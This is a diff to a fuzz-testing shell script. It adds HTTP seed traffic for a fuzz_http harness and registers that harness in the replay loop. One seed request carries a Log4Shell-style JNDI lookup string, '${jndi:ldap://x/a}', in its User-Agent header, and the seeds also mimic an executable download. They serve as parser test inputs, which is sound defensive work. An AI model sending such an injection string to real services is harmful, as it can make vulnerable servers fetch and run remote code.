@@ -22,6 +22,8 @@ seeds_reader=$OUT/seeds/reader
 seeds_decode=$OUT/seeds/decode
 seeds_overnet=$OUT/seeds/overnet
 seeds_report=$OUT/seeds/report
+seeds_http=$OUT/seeds/http
+mkdir -p "$seeds_http" "$OUT/corpus/http"
 mkdir -p "$seeds_report" "$OUT/corpus/report"
 mkdir -p "$seeds_reader" "$seeds_decode" "$seeds_overnet" "$OUT/corpus/reader" "$OUT/corpus/decode" \
 	"$OUT/corpus/overnet" "$OUT/artifacts"
@@ -81,7 +83,20 @@ done
 
 pass=0
 fail=0
-for h in fuzz_decode fuzz_reader fuzz_overnet fuzz_report; do
+# HTTP seeds (fuzz_http.c's format: flags, 2-byte length, bytes per segment)
+http_seg() {  # DIRFLAGS TEXT
+	n=$(printf '%s' "$2" | wc -c)
+	printf "\\$(printf %03o "$1")\\$(printf %03o $((n >> 8)))\\$(printf %03o $((n & 255)))"
+	printf '%s' "$2"
+}
+crlf=$(printf '\r\n_')
+crlf=${crlf%_}
+{ http_seg 0 "GET /a.exe HTTP/1.1${crlf}Host: 10.0.0.1:8080${crlf}User-Agent: \${jndi:ldap://x/a}${crlf}${crlf}"
+  http_seg 1 "HTTP/1.1 200 OK${crlf}Content-Type: application/octet-stream${crlf}Transfer-Encoding: chunked${crlf}${crlf}4${crlf}MZ..${crlf}0${crlf}${crlf}"
+  http_seg 0 "POST /u HTTP/1.1${crlf}Host: h${crlf}Content-Type: application/x-www-form-urlencoded${crlf}Content-Length: 13${crlf}${crlf}user=a&pass=b"
+  http_seg 1 "HTTP/1.1 302 Found${crlf}Location: http://x/${crlf}Content-Length: 0${crlf}${crlf}"; } > "$seeds_http/keepalive"
+
+for h in fuzz_decode fuzz_reader fuzz_overnet fuzz_report fuzz_http; do
 	name=${h#fuzz_}
 	# replay saved reproducers
 	if [ -d "fuzz/regress/$name" ] && [ -n "$(ls "fuzz/regress/$name" 2>/dev/null)" ]; then
